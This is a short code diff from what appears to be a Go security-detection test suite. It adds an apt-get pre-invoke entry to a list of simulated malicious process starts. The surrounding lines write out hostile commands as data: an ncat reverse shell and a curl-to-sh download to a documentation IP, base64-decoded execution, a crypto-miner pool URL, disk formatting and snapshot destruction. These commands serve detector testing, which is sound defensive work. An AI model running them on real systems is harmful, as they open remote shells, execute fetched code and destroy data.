@@ -81,6 +81,7 @@ var fileSimulations = []Simulation{
 	starts("reverse_shell_command", "/usr/bin/ncat", "ncat", "203.0.113.1", "4444", "-e", "/bin/sh"),
 	starts("download_and_execute", "/bin/sh", "sh", "-c", "curl -s http://203.0.113.1/simulation | sh"),
 	starts("encoded_command", "/bin/sh", "sh", "-c", "echo dHJ1ZQ== | base64 -d | sh"),
+	starts("package_manager_command", "/usr/bin/apt-get", "apt-get", "update", "-o", "APT::Update::Pre-Invoke::=/bin/true"),
 	starts("crypto_miner", "/tmp/simulation", "simulation", "-o", "stratum+tcp://203.0.113.1:3333"),
 	starts("disk_destroyed", "/usr/sbin/mkfs.ext4", "mkfs.ext4", "/dev/sdsimulation"),
 	starts("recovery_inhibited", "/usr/sbin/zfs", "zfs", "destroy", "simulation@snapshot"),
